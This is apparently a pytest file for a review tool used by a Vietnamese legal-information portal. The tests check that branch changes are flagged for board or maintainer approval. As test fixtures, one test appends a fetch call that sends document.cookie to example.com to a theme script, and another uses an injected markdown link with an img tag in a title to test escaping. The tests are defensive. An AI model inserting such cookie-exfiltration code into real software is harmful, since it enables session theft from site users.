"""The review report, acted out on real repositories: an editor's branch, the board's report."""

from __future__ import annotations

import json
import re
from collections.abc import Callable
from pathlib import Path

import pytest
from editorial_repo import PortalRepo

from pbgdpl.catalog.status import Status, status_phrase
from pbgdpl.editorial.review import review_changes
from pbgdpl.editorial.review_format import md, to_markdown
from pbgdpl.model.moment import BuildMoment

from conftest import write

BTP_EDITOR = "btp-bientap-nguyenlan"
LAW = "agencies/bo-tu-phap/van-ban-moi/luat-hoa-giai-o-co-so-35-2013-qh13.md"
LAW_TEXT = """\
---
title: Luật Hòa giải ở cơ sở số 35/2013/QH13
so_ky_hieu: "35/2013/QH13"
loai_van_ban: Luật
co_quan_ban_hanh: Quốc hội
nguoi_ky: Nguyễn Sinh Hùng
chuc_danh: Chủ tịch Quốc hội
ngay_ban_hanh: 2013-06-20
ngay_hieu_luc: 2014-01-01
linh_vuc: [Hòa giải ở cơ sở]
trich_yeu: Luật Hòa giải ở cơ sở
---

Luật quy định về nguyên tắc, chính sách của Nhà nước về hòa giải ở cơ sở.
"""
NEWS = "agencies/bo-tu-phap/tin-tuc/tap-huan-ban-bien-tap.md"
NEWS_TEXT = """\
---
title: Tập huấn cho Ban Biên tập
date: 2026-10-01
---

Bộ Tư pháp tổ chức tập huấn cho thành viên Ban Biên tập.
"""
HANOI_NEWS = "agencies/ha-noi/tin-tuc/hoi-nghi-hoa-giai.md"
HANOI_TEXT = """\
---
title: Hội nghị hòa giải ở cơ sở
date: 2026-10-02
---

Thành phố Hà Nội tổng kết công tác hòa giải ở cơ sở.
"""


@pytest.fixture
def portal_repo(tmp_path: Path) -> PortalRepo:
    """The sample portal plus three items of our own, committed on main."""
    repo = PortalRepo(tmp_path / "repo")
    for path, text in ((LAW, LAW_TEXT), (NEWS, NEWS_TEXT), (HANOI_NEWS, HANOI_TEXT)):
        write(repo.root / path, text)
    repo.commit("Thêm bài mẫu cho kiểm thử")
    repo.branch("bien-tap")
    return repo


def test_an_editor_touching_another_agency_and_the_theme_is_flagged(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    portal_repo.edit(NEWS, "tổ chức tập huấn", "tổ chức lớp tập huấn")
    portal_repo.edit(HANOI_NEWS, "tổng kết", "sơ kết")
    css = portal_repo.root / "theme/assets/pbgdpl/portal.css"
    css.write_text(css.read_text("utf-8") + "\n.pb-x { color: red; }\n", "utf-8")
    portal_repo.commit("Sửa tin tập huấn")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 0  # out of scope is for the board to weigh, not an error
    outside = out.split("### Thay đổi ngoài phạm vi của người gửi")[1].split("###")[0]
    assert f"`{HANOI_NEWS}` (Thành phố Hà Nội)" in outside
    assert NEWS not in outside
    platform = out.split("### Thay đổi nền tảng (nhóm kỹ thuật duyệt)")[1].split("###")[0]
    assert "`theme/assets/pbgdpl/portal.css` — người gửi không thuộc nhóm kỹ thuật" in platform
    assert f"Người gửi: `{BTP_EDITOR}` (biên tập viên của Bộ Tư pháp)" in out
    assert (
        f"| Bộ Tư pháp | Tin tức, hoạt động | sửa | Tập huấn cho Ban Biên tập | `{NEWS}` |" in out
    )
    assert "**Kết luận: chưa thể hợp nhất cho đến khi nhóm kỹ thuật duyệt**" in out


def test_rights_come_from_the_base_so_a_branch_cannot_grant_itself_an_agency(
    portal_repo: PortalRepo,
) -> None:
    portal_repo.edit("agencies/ha-noi/agency.yml", "editors: [", f"editors: [{BTP_EDITOR}, ")
    portal_repo.edit(HANOI_NEWS, "tổng kết", "sơ kết")
    portal_repo.commit("Thêm mình vào biên tập viên Hà Nội")

    review = review_changes(portal_repo.root, "main", "bien-tap", BTP_EDITOR)

    assert [f.change.path for f in review.outside] == [
        "agencies/ha-noi/agency.yml",
        HANOI_NEWS,
    ]
    roles = next(f for f in review.files if f.change.path.endswith("agency.yml"))
    assert [c.key for c in roles.fields] == ["editors"]
    assert BTP_EDITOR in str(roles.fields[0].new)


def test_a_changed_date_of_effect_shows_old_and_new(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    portal_repo.edit(LAW, "ngay_hieu_luc: 2014-01-01", "ngay_hieu_luc: 2014-07-01")
    portal_repo.commit("Sửa ngày có hiệu lực của Luật Hòa giải ở cơ sở")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 0
    assert "### Thông tin đã sửa (trước → sau)" in out
    assert "| Ngày có hiệu lực (`ngay_hieu_luc`) | 01/01/2014 | 01/07/2014 |" in out
    assert "Ngày ban hành" not in out  # only what changed

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--format", "json")
    data = json.loads(out)
    law = next(f for f in data["files"] if f["path"] == LAW)
    assert law["fields"] == [
        {
            "key": "ngay_hieu_luc",
            "label": "Ngày có hiệu lực",
            "old": "01/01/2014",
            "new": "01/07/2014",
        }
    ]
    assert law["section"] == "van-ban-moi" and law["agency"] == "bo-tu-phap"
    assert data["sites"] == ["bo-tu-phap"] and data["ok"] is True


def test_deleting_a_published_page_without_a_redirect_is_an_error(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    (portal_repo.root / NEWS).unlink()
    portal_repo.commit("Xóa tin tập huấn")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 1
    assert "**Kết luận: chưa thể hợp nhất, còn 1 lỗi phải sửa.**" in out
    assert f"`{NEWS}:1` lỗi [removed-without-redirect]" in out
    assert 'Bài đã đăng tại "bo-tu-phap/tin-tuc/tap-huan-ban-bien-tap/" bị xóa' in out
    assert "| Bộ Tư pháp | Tin tức, hoạt động | xóa | Tập huấn cho Ban Biên tập |" in out


def test_a_moved_page_needs_a_redirect_from_its_old_address(portal_repo: PortalRepo) -> None:
    moved = "agencies/bo-tu-phap/tin-tuc/tap-huan-thanh-vien-ban-bien-tap.md"
    (portal_repo.root / NEWS).rename(portal_repo.root / moved)
    portal_repo.commit("Đổi tên tệp tin tập huấn")

    review = review_changes(portal_repo.root, "main", "bien-tap", BTP_EDITOR)
    assert [(f.change.change, f.change.old_path, f.change.new_path) for f in review.files] == [
        ("renamed", NEWS, moved)
    ]
    assert [d.code for d in review.errors] == ["moved-without-redirect"]
    redirect = 'redirect_from: ["bo-tu-phap/tin-tuc/tap-huan-ban-bien-tap/"]'
    assert redirect in review.errors[0].message

    portal_repo.edit(moved, "date: 2026-10-01\n", f"date: 2026-10-01\n{redirect}\n")
    portal_repo.commit("Chuyển hướng địa chỉ cũ")

    review = review_changes(portal_repo.root, "main", "bien-tap", BTP_EDITOR)
    assert review.errors == []


def test_removing_a_draft_or_an_unscheduled_item_is_fine(portal_repo: PortalRepo) -> None:
    portal_repo.repo.git.checkout("main")
    portal_repo.edit(NEWS, "date: 2026-10-01\n", "date: 2026-10-01\ndraft: true\n")
    portal_repo.edit(
        HANOI_NEWS, "date: 2026-10-02\n", "date: 2026-10-02\npublish_at: 2099-01-01T08:00\n"
    )
    portal_repo.commit("Chưa đăng hai bài")
    portal_repo.repo.git.checkout("-b", "xoa-ban-nhap")
    (portal_repo.root / NEWS).unlink()
    (portal_repo.root / HANOI_NEWS).unlink()
    portal_repo.commit("Xóa bản nháp")

    review = review_changes(portal_repo.root, "main", "xoa-ban-nhap", "pbgdpl-bbt/thuong-truc")
    assert review.errors == []
    assert review.outside == []  # the board may change every agency


def test_the_working_tree_is_reviewed_with_validation_of_changed_files_only(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    # An error already on main, in a file this change does not touch, is not reported.
    portal_repo.repo.git.checkout("main")
    portal_repo.edit(HANOI_NEWS, "date: 2026-10-02", "date: 2026-13-02")
    portal_repo.commit("Lỗi có sẵn")
    portal_repo.repo.git.checkout("-b", "ban-lam-viec")
    new = "agencies/bo-tu-phap/hoi-dap/hoi-dap-ve-hoa-giai.md"
    write(
        portal_repo.root / new, "---\ntitle: Hỏi về hòa giải\ndate: 2026-11-02\n---\n\nTrả lời.\n"
    )

    status, out, _ = run_cli(portal_repo.root, "review", "main", "--author", BTP_EDITOR)

    assert status == 1
    assert "→ `bản làm việc`" in out
    assert f"| Bộ Tư pháp | Hỏi đáp pháp luật | thêm mới | Hỏi về hòa giải | `{new}` |" in out
    assert f"`{new}:1` lỗi [missing-field]" in out and '"cau\\_hoi"' in out
    assert HANOI_NEWS not in out


def test_editor_text_cannot_format_the_report(portal_repo: PortalRepo) -> None:
    portal_repo.edit(
        NEWS,
        "title: Tập huấn cho Ban Biên tập",
        'title: "[Bấm vào đây](https://example.com) <img src=x> | ô"',
    )
    portal_repo.commit("Tiêu đề lạ")

    report = to_markdown(review_changes(portal_repo.root, "main", "bien-tap"))

    # Every bracket and angle bracket of the title comes escaped: shown, never followed.
    assert not re.search(r"(?<!\\)<img|(?<!\\)\]\(https", report)
    assert md("[Bấm vào đây](https://example.com) <img src=x> | ô") in report
    assert "Không rõ người gửi (thiếu --author)" in report


def test_an_unknown_base_is_explained(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    status, _, err = run_cli(portal_repo.root, "review", "origin/khong-co")
    assert status == 2
    assert 'Không tìm thấy phiên bản "origin/khong-co"' in err


def test_a_branch_cannot_hide_a_file_from_the_report_with_gitattributes(
    portal_repo: PortalRepo,
) -> None:
    write(portal_repo.root / ".gitattributes", "agencies/**/*.md export-ignore\n")
    broken = "agencies/bo-tu-phap/hoi-dap/an-di.md"
    write(portal_repo.root / broken, "---\ntitle: Bị giấu\ndate: 2026-13-01\n---\n\nx\n")
    portal_repo.commit("Giấu một tệp")

    review = review_changes(portal_repo.root, "main", "bien-tap", BTP_EDITOR)

    assert (broken, "invalid-date") in [(d.path, d.code) for d in review.errors]
    assert [f.change.path for f in review.platform] == [".gitattributes"]


BOARD = "pbgdpl-bbt/thuong-truc"
MAINTAINER = "pbgdpl-bbt/ky-thuat"


@pytest.mark.parametrize(
    ("added", "how"),
    [
        ("draft: true\n", "đặt lại thành bản nháp (draft: true)"),
        (
            "publish_at: 2099-01-01T08:00\n",
            "dời giờ đăng sang 01/01/2099 08:00 (publish_at)",
        ),
        (
            'withdrawn: {date: 2026-11-01, reason: "Hết thời hạn."}\n',
            "thôi đăng từ ngày 01/11/2026 (withdrawn)",
        ),
    ],
    ids=["draft", "publish_at", "withdrawn"],
)
def test_taking_a_published_page_down_needs_the_board(
    portal_repo: PortalRepo,
    run_cli: Callable[..., tuple[int, str, str]],
    added: str,
    how: str,
) -> None:
    portal_repo.edit(NEWS, "date: 2026-10-01\n", f"date: 2026-10-01\n{added}")
    portal_repo.commit("Gỡ tin tập huấn")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 1
    assert f"`{NEWS}:4` lỗi [unpublished]" in out  # the line of the key
    assert md(how) in out and "cần Ban Biên tập quyết định" in out

    # The board taking a page down is its own decision: listed, not an error.
    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BOARD)
    assert status == 0
    assert f"| Ban Biên tập | `{NEWS}` | Gỡ bài đã đăng: {md(how)}. |" in out
    assert "chỉ hợp nhất khi Ban Biên tập duyệt" in out


DECREE = "agencies/bo-tu-phap/van-ban-moi/nghi-dinh-15-2021-nd-cp.md"
DECREE_TEXT = """\
---
title: Nghị định quy định chi tiết Luật Hòa giải ở cơ sở
so_ky_hieu: "15/2021/NĐ-CP"
loai_van_ban: Nghị định
co_quan_ban_hanh: Chính phủ
nguoi_ky: Phạm Minh Chính
chuc_danh: Thủ tướng Chính phủ
ngay_ban_hanh: 2021-03-01
ngay_hieu_luc: 2021-04-20
linh_vuc: [Hòa giải ở cơ sở]
trich_yeu: Quy định chi tiết một số điều của Luật Hòa giải ở cơ sở
huong_dan: ["35/2013/QH13"]
thay_the: ["15/2014/NĐ-CP"]
---

Nghị định quy định chi tiết một số điều và biện pháp thi hành Luật Hòa giải ở cơ sở.
"""


def test_a_new_legal_document_shows_every_fact_to_check(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    write(portal_repo.root / DECREE, DECREE_TEXT)
    scheduled = "agencies/bo-tu-phap/tin-tuc/thong-bao-tiep-cong-dan.md"
    write(
        portal_repo.root / scheduled,
        "---\ntitle: Thông báo tiếp công dân\ndate: 2026-11-20\n"
        "publish_at: 2099-01-02T07:30\n---\n\nLịch tiếp công dân.\n",
    )
    portal_repo.commit("Thêm Nghị định 15/2021/NĐ-CP và một thông báo hẹn giờ")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 0, out
    facts = out.split("### Bài mới: đối chiếu từng thông tin với bản gốc")[1]
    today = BuildMoment.now().date
    for row in (
        "| Số ký hiệu (`so_ky_hieu`) | 15/2021/NĐ-CP |",
        "| Cơ quan ban hành (`co_quan_ban_hanh`) | Chính phủ |",
        "| Người ký (`nguoi_ky`) | Phạm Minh Chính |",
        "| Ngày ban hành (`ngay_ban_hanh`) | 01/03/2021 |",
        "| Ngày có hiệu lực (`ngay_hieu_luc`) | 20/04/2021 |",
        f"| Tình trạng hiệu lực | {md(status_phrase(Status.IN_FORCE, today))} |",
        "| Hướng dẫn, quy định chi tiết | 35/2013/QH13 |",
        "| Thay thế | 15/2014/NĐ-CP \\(chưa có trên cổng\\) |",
        f"| {md('Hẹn giờ đăng (giờ Việt Nam)')} (`publish_at`) | 02/01/2099 07:30 |",
    ):
        assert row in facts, row


def test_settings_and_rights_changes_show_key_by_key_for_the_board(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    portal_repo.edit("content/portal.yml", "  tin-tuc: 30\n", "  tin-tuc: 3650\n")
    portal_repo.edit("agencies/bo-tu-phap/agency.yml", "editors: [", "editors: [btp-bientap-moi, ")
    portal_repo.commit("Sửa cài đặt")

    status, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)

    assert status == 0
    label = "Số ngày tối đa giữa hai lần cập nhật chuyên mục"
    assert f"| {label} (`stale_after_days.tin-tuc`) | 30 | 3650 |" in out
    settings = md("Thay đổi cài đặt: stale_after_days.tin-tuc.")
    assert f"| Ban Biên tập | `content/portal.yml` | {settings} |" in out
    # Adding a login to one's own agency is a rights change the board decides.
    rights = md("Thay đổi quyền (Biên tập viên): thêm btp-bientap-moi.")
    assert f"| Ban Biên tập | `agencies/bo-tu-phap/agency.yml` | {rights} |" in out
    assert "chỉ hợp nhất khi Ban Biên tập duyệt" in out


def test_a_platform_change_waits_for_a_maintainer(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    script = portal_repo.root / "theme/assets/pbgdpl/dashboard.js"
    script.write_text(
        script.read_text("utf-8") + "\nfetch('https://example.com/?' + document.cookie);\n"
    )
    portal_repo.commit("Sửa giao diện")

    _, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", BTP_EDITOR)
    assert "**Kết luận: chưa thể hợp nhất cho đến khi nhóm kỹ thuật duyệt**" in out
    assert "| Nhóm kỹ thuật | `theme/assets/pbgdpl/dashboard.js` |" in out

    _, out, _ = run_cli(portal_repo.root, "review", "main", "bien-tap", "--author", MAINTAINER)
    assert "cho đến khi nhóm kỹ thuật duyệt" not in out


def test_a_changed_text_is_summarised_with_a_link_to_its_preview(
    portal_repo: PortalRepo, run_cli: Callable[..., tuple[int, str, str]]
) -> None:
    portal_repo.edit(NEWS, "tổ chức tập huấn cho", "tổ chức hai lớp tập huấn cho")
    text = (portal_repo.root / NEWS).read_text("utf-8")
    (portal_repo.root / NEWS).write_text(text + "\nLớp thứ hai học về hòa giải.\n", "utf-8")
    portal_repo.commit("Sửa tin tập huấn")

    _, out, _ = run_cli(
        portal_repo.root, "review", "main", "bien-tap", "--preview-url", "https://xem.example/pr-7"
    )

    body = out.split("### Nội dung đã sửa")[1]
    assert "thêm 1 đoạn, bớt 0 đoạn, sửa 1 đoạn." in body
    assert "- Câu cũ: “Bộ Tư pháp tổ chức tập huấn cho thành viên Ban Biên tập.”" in body
    assert "- Câu mới: “Bộ Tư pháp tổ chức hai lớp tập huấn cho thành viên Ban Biên tập.”" in body
    assert "- Đoạn thêm: “Lớp thứ hai học về hòa giải.”" in body
    assert (
        "[Xem trang trong bản xem trước](https://xem.example/pr-7/"
        "bo-tu-phap/tin-tuc/tap-huan-ban-bien-tap/index.html)" in body
    )
